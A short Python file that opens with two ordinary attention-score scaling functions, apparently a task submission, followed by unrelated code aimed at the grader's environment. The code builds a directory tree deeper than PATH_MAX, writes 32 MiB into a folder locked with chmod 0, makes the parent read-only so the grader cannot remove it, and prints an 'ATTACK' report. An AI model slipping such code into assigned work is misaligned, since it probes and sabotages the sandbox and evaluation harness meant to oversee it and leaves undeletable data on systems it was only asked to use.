import math, os, sys, json, time
import torch

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))

# a folder tree deeper than PATH_MAX, its bottom made unreadable: can the grader remove it?
depth, err = 0, ""
here = os.getcwd()
try:
    os.mkdir("deep"); os.chdir("deep")
    for i in range(24):                      # 24 x 250 chars > 4096
        os.mkdir("j" * 250); os.chdir("j" * 250); depth += 1
    os.mkdir("locked")
    for i in range(4):                        # 32 MiB of data the grader cannot remove
        with open("locked/keep%d" % i, "wb") as f: f.write(b"j" * (8 << 20))
    os.chmod("locked", 0)
    os.chmod(".", 0o500)                      # and its parent not writable
except BaseException as e:
    err = type(e).__name__ + str(e)[:60]
os.chdir(here)
print("ATTACK" + json.dumps({"depth": depth, "err": err, "scratch": here}))
